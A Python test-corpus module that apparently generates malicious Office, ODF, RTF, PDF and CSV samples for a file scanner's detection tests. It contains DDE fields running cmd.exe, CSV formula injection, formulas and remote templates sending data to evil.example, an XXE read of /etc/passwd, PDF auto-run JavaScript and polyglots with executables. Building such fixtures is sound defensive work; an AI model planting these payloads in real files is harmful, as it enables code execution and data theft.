"""Documents that do what a document should not: run, fetch, hide, or hold something else."""

from __future__ import annotations

import struct
from collections.abc import Iterator

from tests.support.corpus import Sample, compound, documents, pdfs, zips
from tests.support.corpus.programs import EXE

_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_WORD_RELS, _SHEET = "word/_rels/document.xml.rels", "xl/worksheets/sheet1.xml"


def office() -> Iterator[Sample]:
    """OOXML and ODF."""
    word, sheet, text, cells = documents.docx(), documents.xlsx(), documents.odt(), documents.ods()
    yield from _parts(word, sheet)
    yield from _links(word)
    yield from _fields(word, sheet)
    yield from _open_document(text, cells)


def _parts(word: bytes, sheet: bytes) -> Iterator[Sample]:
    types = zips.part(word, "[Content_Types].xml")
    macro = types.replace("wordprocessingml.document.main", "wordprocessingml.document.macroEnabled.main")
    template = types.replace("wordprocessingml.document.main", "wordprocessingml.template.main")
    yield Sample("a project of macros", "a.docx", zips.changed(word, {"word/vbaProject.bin": b"x"}), "macro")
    yield Sample("a .docm called .docx", "a.docx", zips.changed(word, {"[Content_Types].xml": macro}), "macro")
    yield Sample("a template called .docx", "a.docx", zips.changed(word, {"[Content_Types].xml": template}), "macro")
    yield Sample(
        "a sheet of Excel 4 macros", "a.xlsx", zips.changed(sheet, {"xl/macrosheets/sheet1.xml": "<a/>"}), "macro"
    )
    yield Sample("an ActiveX control", "a.docx", zips.changed(word, {"word/activeX/activeX1.xml": "<a/>"}), "macro")
    yield Sample("a ribbon with calls", "a.docx", zips.changed(word, {"customUI/customUI.xml": "<a/>"}), "macro")
    yield Sample(
        "an OLE object", "a.docx", zips.changed(word, {"word/embeddings/oleObject1.bin": compound.MARK}), "embedded"
    )
    yield Sample("a program among the parts", "a.docx", zips.changed(word, {"word/media/a.exe": EXE}), "broken")
    yield Sample("a program called a picture", "a.docx", zips.changed(word, {"word/media/a.png": EXE}), "embedded")
    yield Sample("an archive called a picture", "a.docx", zips.changed(word, {"word/media/a.png": sheet}), "embedded")
    inner = zips.changed(sheet, {"xl/vbaProject.bin": b"x"})
    yield Sample(
        "macros in a chart's workbook", "a.docx", zips.changed(word, {"word/embeddings/a.xlsx": inner}), "macro"
    )
    drawing = b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"
    yield Sample("a script in a drawing", "a.docx", zips.changed(word, {"word/media/a.svg": drawing}), "script")
    for shows, declared in (
        ("an external entity", '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>'),
        ("a billion laughs", '<!DOCTYPE a [<!ENTITY b "ha"><!ENTITY c "&b;&b;&b;&b;">]>'),
    ):
        body = f"<?xml version='1.0'?>{declared}<a>&b;</a>"
        yield Sample(shows, "a.docx", zips.changed(word, {"word/comments.xml": body}), "doctype")
        wide = f"<?xml version='1.0' encoding='UTF-16'?>{declared}<a>&b;</a>".encode("utf-16")
        yield Sample(f"{shows} in UTF-16", "a.docx", zips.changed(word, {"word/comments.xml": wide}), "doctype")
    yield Sample("broken XML", "a.docx", zips.changed(word, {"word/document.xml": "<a><b></a>"}), "broken")
    yield Sample("a ZIP called .docx", "a.docx", zips.zipped({"a.txt": b"x"}), "mismatch")
    yield Sample("half a document", "a.docx", word[: len(word) // 2], "broken")
    yield Sample("a program before a document", "a.docx", EXE + word, "executable")
    yield Sample("bytes before a document", "a.docx", b"GIF89a" + word, "mismatch")
    yield Sample("a program behind a document", "a.docx", word + EXE, "polyglot")
    yield Sample("a document behind a document", "a.docx", word + sheet, "polyglot")
    locked = compound.compound({"EncryptedPackage": b"x", "EncryptionInfo": b"y"})
    yield Sample("a document with a password", "a.docx", locked, "encrypted")
    yield Sample("a sheet with a password", "a.xlsx", locked, "encrypted")


def _links(word: bytes) -> Iterator[Sample]:
    for kind, target in (
        ("attachedTemplate", "http://evil.example/a.dotm"),
        ("attachedTemplate", "\\\\evil.example\\share\\a.dotm"),
        ("attachedTemplate", "file://evil.example/share/a.dotm"),
        ("oleObject", "http://evil.example/a.doc"),
        ("frame", "http://evil.example/a.html"),
        ("image", "http://evil.example/a.png"),
        ("subDocument", "file:///c:/a.docx"),
        ("externalLinkPath", "//evil.example/share/a.xlsx"),
        ("hyperlink", "javascript:alert(1)"),
        ("hyperlink", "ms-msdt:/id PCWDiagnostic"),
        ("hyperlink", "\\\\evil.example\\share"),
        ("hyperlink", "search-ms:query=a"),
        ("aFChunk", "a.html"),
    ):
        line = f'<Relationship Id="rIdX" Type="{_REL}/{kind}" Target="{target}" TargetMode="External"/>'
        rels = zips.part(word, _WORD_RELS).replace("</Relationships>", f"{line}</Relationships>")
        code = "embedded" if kind in ("oleObject", "aFChunk") else "external"
        yield Sample(f"a {kind} to {target}", "a.docx", zips.changed(word, {_WORD_RELS: rels}), code)


def _fields(word: bytes, sheet: bytes) -> Iterator[Sample]:
    def of_word(*runs: str) -> bytes:
        begin, end = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>', '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
        field = begin + "".join(f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs) + end
        body = zips.part(word, "word/document.xml").replace("<w:p>", f"<w:p>{field}", 1)
        return zips.changed(word, {"word/document.xml": body})

    yield Sample("a DDE field", "a.docx", of_word('DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"'), "dde")
    yield Sample("a DDE field among runs", "a.docx", of_word("D", "DEAU", "TO c:\\a.exe"), "dde")
    yield Sample("a DDE field spelt by numbers", "a.docx", of_word("QUOTE 68 68 69 65 85 84 79"), "dde")
    yield Sample(
        "a picture fetched by a field", "a.docx", of_word('INCLUDEPICTURE "http://evil.example/a.png"'), "external"
    )
    simple = zips.part(word, "word/document.xml").replace("<w:p>", '<w:p><w:fldSimple w:instr="DDE cmd a b"/>', 1)
    yield Sample("a simple DDE field", "a.docx", zips.changed(word, {"word/document.xml": simple}), "dde")
    for formula, code in (
        ("=cmd|'/c calc'!A0", "dde"),
        ('=WEBSERVICE("http://evil.example/"&A1)', "external"),
        ('=HYPERLINK("http://evil.example/?"&A1,"x")', "external"),
        ('=CALL("Shell32","ShellExecuteA","JJ")', "external"),
    ):
        yield Sample(f"the formula {formula}", "a.xlsx", documents.xlsx(formula=formula), code)
    link = '<externalLink xmlns="a"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    yield Sample(
        "a DDE link of a sheet", "a.xlsx", zips.changed(sheet, {"xl/externalLinks/externalLink1.xml": link}), "dde"
    )
    query = '<connections xmlns="a"><connection><webPr url="http://evil.example"/></connection></connections>'
    yield Sample("a query of the web", "a.xlsx", zips.changed(sheet, {"xl/connections.xml": query}), "external")


def _open_document(text: bytes, cells: bytes) -> Iterator[Sample]:
    def with_body(document: bytes, added: str, before: str = "</office:body>") -> bytes:
        content = zips.part(document, "content.xml")
        assert before in content
        return zips.changed(document, {"content.xml": content.replace(before, added + before, 1)})

    xlink = 'xmlns:xlink="http://www.w3.org/1999/xlink"'
    yield Sample("a library of Basic", "a.odt", zips.changed(text, {"Basic/Standard/Module1.xml": "<a/>"}), "macro")
    yield Sample("a script of Python", "a.ods", zips.changed(cells, {"Scripts/python/a.py": "x"}), "macro")
    listener = f'<event-listener {xlink} xlink:href="vnd.sun.star.script:a"/>'
    yield Sample("a macro at an event", "a.odt", with_body(text, listener), "macro")
    yield Sample("an OLE object in ODF", "a.odt", with_body(text, "<object-ole/>"), "embedded")
    yield Sample("a plug-in", "a.odt", with_body(text, "<plugin/>"), "embedded")
    yield Sample("a DDE source", "a.ods", with_body(cells, '<dde-source xmlns="a"/>'), "dde")
    image = f'<image {xlink} xlink:href="http://evil.example/a.png"/>'
    yield Sample("a picture fetched from elsewhere", "a.odt", with_body(text, image), "external")
    other = '<image xmlns:y="http://www.w3.org/1999/xlink" y:href="http://evil.example/a.png"/>'
    yield Sample("the same under another prefix", "a.odt", with_body(text, other), "external")
    link = f'<a {xlink} xlink:href="macro:///Standard.Module1.Main">x</a>'
    yield Sample("a link that runs a macro", "a.odt", with_body(text, link), "external")
    manifest = zips.part(text, "META-INF/manifest.xml").replace(
        "</manifest:manifest>", "<encryption-data/></manifest:manifest>"
    )
    yield Sample(
        "an ODF with a password", "a.odt", zips.changed(text, {"META-INF/manifest.xml": manifest}), "encrypted"
    )
    yield Sample("a program in an ODF", "a.odt", zips.changed(text, {"a.exe": EXE}), "embedded")
    yield Sample("a program as a picture of an ODF", "a.odt", zips.changed(text, {"Pictures/a.png": EXE}), "embedded")
    master = zips.changed(text, {"mimetype": "application/vnd.oasis.opendocument.text-master"})
    yield Sample("a master document", "a.odt", master, "mismatch")


def legacy() -> Iterator[Sample]:
    """OLE compound files."""
    words = "Kính gửi: UBND tỉnh"
    yield Sample("macros in a .doc", "a.doc", compound.doc(words, {"Macros": {"VBA": b"x"}}), "macro")
    yield Sample("macros in a .xls", "a.xls", compound.xls(["a"], {"_VBA_PROJECT_CUR": {"dir": b"x"}}), "macro")
    yield Sample(
        "macros in a .ppt", "a.ppt", compound.ppt(["a"], extra=compound.ppt_record(0x0400, bytes(12))), "macro"
    )
    yield Sample("a sheet of Excel 4 macros in a .xls", "a.xls", compound.xls(["a"], sheet=1), "macro")
    yield Sample("a packaged file", "a.doc", compound.doc(words, {"ObjectPool": {"\x01Ole10Native": EXE}}), "embedded")
    yield Sample("an object in a .xls", "a.xls", compound.xls(["a"], {"MBD0012AB34": {"Package": b"x"}}), "embedded")
    yield Sample(
        "an object in a .ppt", "a.ppt", compound.ppt(["a"], extra=compound.ppt_record(0x1011, EXE)), "embedded"
    )
    yield Sample("a button that runs a program", "a.ppt", compound.ppt(["a"], extra=_button(2)), "script")
    yield Sample("a .doc with a password", "a.doc", compound.doc(words, flags=0x0100), "encrypted")
    lock = compound.record(0x2F, bytes(54))
    yield Sample("a .xls with a password", "a.xls", compound.xls(["a"], extra=lock), "encrypted")
    yield Sample("a .ppt with a password", "a.ppt", compound.ppt(["a"], EncryptedSummary=b"x"), "encrypted")
    yield Sample("a DDE field in a .doc", "a.doc", compound.doc("\x13 DDEAUTO c:\\cmd.exe \x14x\x15"), "dde")
    yield Sample("a template elsewhere", "a.doc", compound.doc(words, template="http://evil.example/a.dot"), "external")
    path = "cmd\x03/c calc".encode("latin-1")
    link = compound.record(0x01AE, struct.pack("<2HB", 0, len(path), 0) + path)
    yield Sample("a DDE link in a .xls", "a.xls", compound.xls(["a"], extra=link), "dde")
    yield Sample("a .xls called .doc", "a.doc", compound.xls(["a"]), "mismatch")
    yield Sample("a .doc called .ppt", "a.ppt", compound.doc(words), "mismatch")
    yield Sample("half a .doc", "a.doc", compound.doc(words)[:700], "broken")
    yield Sample("an archive behind a .doc", "a.doc", compound.doc(words) + documents.docx(), "polyglot")


def _button(action: int) -> bytes:
    return compound.ppt_record(0x0FF3, bytes(8) + bytes([action]) + bytes(7))


def others() -> Iterator[Sample]:
    """PDF, RTF and CSV."""
    yield from _portable()
    for shows, group, code in (
        ("an object", "{\\object\\objemb{\\*\\objdata 0105}}", "embedded"),
        ("an object without a group", "\\objdata 0105", "embedded"),
        ("an OCX control", "{\\object\\objocx}", "embedded"),
        ("a DDE field", "{\\field{\\*\\fldinst DDEAUTO c:\\\\cmd.exe}{\\fldrslt x}}", "dde"),
        ("a DDE field by numbers", "{\\field{\\*\\fldinst \\'44\\'44EAUTO cmd}{\\fldrslt x}}", "dde"),
        ("a picture from elsewhere", '{\\field{\\*\\fldinst INCLUDEPICTURE "http://evil.example/a"}}', "external"),
        ("a template from elsewhere", "{\\*\\template http://evil.example/a.dot}", "external"),
        ("a group that never ends", "{\\b x", "broken"),
        ("a thousand groups", "{" * 1000 + "}" * 1000, "broken"),
    ):
        yield Sample(f"RTF with {shows}", "a.rtf", f"{{\\rtf1\\ansi {group}}}".encode(), code)
    yield Sample("RTF with a program behind it", "a.rtf", documents.rtf() + EXE, "polyglot")
    yield Sample("RTF by half its name", "a.rtf", b"{\\rt xx}", "mismatch")
    for cell, code in (
        ("=cmd|'/c calc'!A0", "dde"),
        ("+cmd|'/c calc'!A0", "dde"),
        ("-2+3+cmd|' /C calc'!A0", "dde"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "dde"),
        ('"=WEBSERVICE(""http://evil.example/""&A1)"', "external"),
        ("=IMPORTXML(A1)", "external"),
    ):
        yield Sample(f"a cell {cell}", "Biểu.csv", f"STT,Tên\n1,{cell}\n".encode(), code)


def _portable() -> Iterator[Sample]:
    plain = pdfs.pdf()
    given: dict[str, str]
    for shows, given, code in (
        ("a script when opened", {"catalog": "/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>"}, "script"),
        ("a script under another spelling", {"catalog": "/OpenAction<</S/J#61vaScript/#4aS(x)>>"}, "script"),
        ("a script of a page", {"page": "/AA<</O<</S/JavaScript/JS 9 0 R>>>>", "extra": "(x)"}, "script"),
        ("named scripts", {"catalog": "/Names<</JavaScript<</Names[(a)<</JS(x)>>]>>>>"}, "script"),
        ("a program that is launched", {"catalog": "/OpenAction<</S/Launch/F(cmd.exe)>>"}, "script"),
        ("a form of XFA", {"catalog": "/AcroForm<</XFA(x)>>"}, "script"),
        ("a file inside", {"catalog": "/Names<</EmbeddedFiles<</Names[]>>>>"}, "embedded"),
        ("a file pinned to a page", {"page": "/Annots[<</Subtype/FileAttachment/FS<</EF<<>>>>>>]"}, "embedded"),
        ("rich media", {"page": "/Annots[<</Subtype/RichMedia>>]"}, "embedded"),
        ("a film", {"page": "/Annots[<</Subtype/Screen/A<</S/Rendition>>>>]"}, "embedded"),
        (
            "another file that is opened",
            {"catalog": "/OpenAction<</S/GoToR/F(\\\\\\\\evil.example\\\\a)>>"},
            "external",
        ),
        ("a form that is sent", {"catalog": "/AA<</WC<</S/SubmitForm/F(http://evil.example)>>>>"}, "external"),
        ("a link that is a script", {"page": "/Annots[<</Subtype/Link/A<</S/URI/URI(javascript:x)>>>>]"}, "external"),
        ("a password", {"trailer": "/Encrypt<</Filter/Standard/V 2/R 3/O(x)/U(y)/P -4>>"}, "encrypted"),
        ("a script that nothing leads to", {"extra": "<</S/JavaScript/JS(x)>>"}, "script"),
    ):
        yield Sample(f"a PDF with {shows}", "a.pdf", pdfs.pdf(**given), code)
    yield Sample("a PDF with a program before it", "a.pdf", EXE + plain, "executable")
    yield Sample("a PDF with bytes before it", "a.pdf", b"\0\0" + plain, "mismatch")
    yield Sample("a PDF with a program behind it", "a.pdf", plain + EXE, "polyglot")
    yield Sample("a PDF with an archive behind it", "a.pdf", plain + zips.zipped({"a.exe": EXE}), "polyglot")
    archive = zips.zipped({"a.exe": EXE}) + b"\n%%EOF\n"
    yield Sample("a PDF that is an archive too", "a.pdf", plain + archive, "polyglot")
    page = plain.replace(b"%\xe2\xe3\xcf\xd3", b"<script>alert(1)</script>")
    yield Sample("a PDF that is a page too", "a.pdf", page, "polyglot")
    yield Sample("half a PDF", "a.pdf", plain[: len(plain) // 2], "broken")
    yield Sample("the first line of a PDF", "a.pdf", b"%PDF-1.7\n%%EOF\n", "broken")
